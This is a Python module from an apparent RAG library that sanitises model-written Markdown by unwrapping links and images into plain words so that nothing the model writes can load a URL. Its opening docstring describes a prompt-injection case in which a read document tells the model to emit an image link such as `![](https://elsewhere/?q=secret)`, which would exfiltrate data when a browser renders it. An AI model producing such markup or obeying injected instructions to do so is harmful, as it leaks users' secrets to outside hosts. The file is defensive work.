"""Nothing that a model writes leads or loads anything, in whatever way its Markdown is shown later.

A model may have been told by a document to write `![](https://elsewhere/?q=secret)`: a reader's browser would fetch it.
Two filters, one behind the other: `_Unwrapper` turns links and pictures into their words, which is what a reader should
see; `LinkGuard` then breaks whatever could still become a link, a picture or HTML, so that only it has to be right.
"""

from __future__ import annotations

import re
from collections.abc import Collection, Iterable
from dataclasses import dataclass, field

import regex

from ragcore.grounding.link_guard import LinkGuard
from ragcore.grounding.markers import CodeSpans
from ragcore.grounding.plain_urls import bare_addresses
from ragcore.text.normalise import visible

_DESTINATION = r"(?:<(?P<angled>[^<>\n]{0,2000})>|(?P<bare>(?:[^()\s\\<]|\\.|\([^()\s]{0,500}\)){0,2000}))"
_TITLE = r"(?:\s{1,20}(?:\"[^\"]{0,300}\"|'[^']{0,300}'|\([^()]{0,300}\)))?"
_TARGET = rf"\(\s{{0,20}}{_DESTINATION}{_TITLE}\s{{0,20}}\)"
_NESTED = r"\[(?:[^\[\]\\\n]|\\.){0,200}\](?:\([^()\s]{0,2000}\))?"
_LINK = regex.compile(rf"!?\[(?P<words>(?:[^\[\]\\\n]|\n[^\n\[\]\\]|\\.|{_NESTED}){{0,300}}+)\]{_TARGET}")
_ADDRESS = regex.compile(
    r"\\?<(?P<address>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]{0,2000}?|[^\s<>@]{1,64}@[^\s<>@]{1,255}?)\\?>"
)
_PIECE = re.compile(
    r"(?P<ticks>`+|~{3,})|(?P<newline>\n[ \t]*)|(?P<open>!?\[|\\?<)|(?P<text>[^`~\n\[<!\\]+|.)", re.DOTALL
)
_UNFINISHED = re.compile(r"(?:(?<!`)`+|(?<!~)~+|\n[ \t]*|!|\\)\Z")
_MARKER = re.compile(r"\d{1,3}")


@dataclass(slots=True)
class LinkStream:
    """Feed the pieces of a text, get text back without links, pictures and active HTML; their words stay.

    Characters that nobody sees and commands to terminals are left out: text could be carried away with them.

    `addresses`: those of sources, which may be linked and shown. `known_urls`: those of sources (`known_addresses`),
    which may stand bare; any other stays to be read, but is no link; None leaves all as they are. Comes behind
    `MarkerStream`: `[1](…)` stays the marker `[1]`. Code stays as it is where it is certain to be code. However the
    text is cut, the pieces joined are the same.
    """

    addresses: Collection[str] = ()
    known_urls: Collection[str] | None = None
    _unwrapper: _Unwrapper = field(init=False)
    _guard: LinkGuard = field(init=False)

    def __post_init__(self) -> None:
        self._unwrapper = _Unwrapper(frozenset(self.addresses))
        self._guard = LinkGuard(tuple(self.addresses), bare_addresses(self.known_urls))

    def feed(self, text: str) -> str:
        """The clean text that is certain after this piece."""
        return self._guard.feed(self._unwrapper.feed(visible(text)))

    def flush(self) -> str:
        """The rest, when the text is over."""
        return self._guard.feed(self._unwrapper.flush()) + self._guard.flush()


def without_links(text: str, addresses: Collection[str] = (), known_urls: Collection[str] | None = None) -> str:
    """A whole text through a LinkStream."""
    stream = LinkStream(addresses, known_urls)
    return stream.feed(text) + stream.flush()


@dataclass(slots=True)
class _Unwrapper:
    """Links and pictures to their words, `<address>` to the address, however its brackets are escaped."""

    addresses: frozenset[str]
    _held: str = ""
    _code: CodeSpans = field(default_factory=CodeSpans)

    def feed(self, text: str) -> str:
        return self._run(self._held + text, final=False)

    def flush(self) -> str:
        return self._run(self._held, final=True)

    def _run(self, text: str, *, final: bool) -> str:
        end = None if final else _UNFINISHED.search(text)
        cut, out, at = end.start() if end else len(text), "", 0
        while at < cut and (match := _PIECE.match(text, at, cut)):
            piece, after = match.group(), match.end()
            if match["ticks"]:
                self._code.ticks(piece)
            elif match["newline"]:
                self._code.newline()
            else:
                if match["open"] and not self._code.inside:
                    link = (_LINK if "[" in piece else _ADDRESS).match(text, at, partial=not final)
                    if link is not None and link.partial:
                        break
                    if link is not None:
                        piece, after = self._words(link), link.end()
                    elif piece == "\\<":
                        piece = "<"  # the guard decides: behind a back slash its `&lt;` would be read as such
                self._code.text(piece)
            out, at = out + piece, after
        self._held = text[at:]
        return out

    def _words(self, link: regex.Match[str]) -> str:
        groups = link.groupdict()
        if address := groups.get("address"):
            return str(address)
        if (groups["angled"] or groups["bare"]) in self.addresses:
            return str(link.group())
        words = str(groups["words"])
        if not link.group().startswith("!") and _MARKER.fullmatch(words):
            return f"[{words}]"
        return _plain(words, self.addresses)


def _plain(words: str, addresses: Iterable[str]) -> str:
    """Words of a link, in which there may be a picture."""
    inner = _Unwrapper(frozenset(addresses))
    return inner.feed(words) + inner.flush()
